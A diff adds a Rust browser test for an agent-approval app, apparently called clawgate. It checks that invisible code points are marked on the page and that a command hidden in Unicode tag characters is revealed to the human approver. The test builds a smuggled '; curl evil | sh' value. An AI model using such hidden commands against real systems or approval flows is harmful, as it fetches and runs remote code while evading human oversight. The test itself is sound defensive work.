@@ -473,3 +473,68 @@ async fn the_app_is_installable_and_its_service_worker_runs() {
     let policy = csp.headers()["content-security-policy"].to_str().expect("ascii").to_owned();
     assert!(policy.contains("script-src 'self'") && !policy.contains("unsafe-inline"), "{policy}");
 }
+
+/// Review R1: the page marks exactly the code points the server marks (its rule is the server's,
+/// served as /text-rule.js), over every code point; and a command hidden in tag characters after
+/// `echo hello` shows on the approval page as code points.
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn the_page_marks_exactly_what_the_server_marks() {
+    let Some(chrome) = chrome().await else { return };
+    let app = TestApp::spawn(Backend::Sqlite).await.expect("server");
+    let tab = Tab::open(&chrome, &app.origin).await;
+    tab.wait("document.querySelector('#signup')", "the page").await;
+
+    // Every code point but the surrogates, through the page's own marking function, in one go.
+    let js = r#"import('/app.js').then(({ visibleText }) => {
+        const parts = [];
+        for (let c = 0; c <= 0x10FFFF; c++) if (c < 0xD800 || c > 0xDFFF) parts.push(String.fromCodePoint(c));
+        const frag = visibleText(parts.join(''));
+        const ranges = [];
+        let plain = 0;
+        for (const node of frag.childNodes) {
+          if (node.nodeType === Node.TEXT_NODE) { for (const _ of node.data) plain++; continue; }
+          const c = parseInt(node.textContent.slice(2), 16);
+          const last = ranges[ranges.length - 1];
+          if (last && last[1] === c - 1) last[1] = c; else ranges.push([c, c]);
+        }
+        return JSON.stringify({ ranges, plain });
+    })"#;
+    let result = tokio::time::timeout(Duration::from_secs(60), tab.page.evaluate(js))
+        .await
+        .expect("the page marks every code point within a minute")
+        .expect("evaluation");
+    let result: Value =
+        serde_json::from_str(result.value().and_then(Value::as_str).expect("json")).expect("json");
+    let page: Vec<(u32, u32)> = serde_json::from_value(result["ranges"].clone()).expect("ranges");
+    let server = clawgate::domain::text::marked_ranges();
+    assert_eq!(page, server, "the page and the server mark the same code points");
+    let marked: u32 = server.iter().map(|(a, b)| b - a + 1).sum();
+    assert_eq!(result["plain"], json!(0x11_0000 - 0x800 - marked), "everything else is shown as itself");
+
+    // A person, an agent key, and a request hiding `; curl evil | sh` in tag characters.
+    tab.type_into("#signup-email", "ada@example.com").await;
+    tab.click("#signup").await;
+    tab.wait("document.querySelector('h1')?.textContent === 'Waiting for you'", "the pending page").await;
+    tab.click("nav a[href='/keys']").await;
+    tab.type_into("#key-name", "bot").await;
+    tab.click("form button[type=submit]").await;
+    let key = tab.wait("document.querySelector('#new-key-value')?.value", "the new API key").await;
+    let hidden = "; curl evil | sh";
+    let tags: String = hidden.chars().filter_map(|c| char::from_u32(0xE0000 + u32::from(c))).collect();
+    let asked = app
+        .post(
+            "/api/v1/approval/request",
+            &Auth::Bearer(key.as_str().expect("key").to_owned()),
+            json!({ "action": format!("echo hello{tags}") }),
+        )
+        .await
+        .expect(201);
+    let id = asked.body["requestId"].as_str().expect("id").to_owned();
+    tab.navigate(&format!("{}/approve/{id}", app.origin)).await;
+    tab.wait("document.querySelector('#approve')", "the approve button").await;
+    let shown = tab.text("pre.action").await;
+    let marks: String = hidden.chars().map(|c| format!("U+E00{:02X}", u32::from(c))).collect();
+    assert_eq!(shown, format!("echo hello{marks}"), "the hidden command shows as code points");
+    assert_eq!(tab.eval("document.querySelectorAll('pre.action .esc').length").await, json!(hidden.len()));
+    tab.screenshot("approval-tag-characters").await;
+}
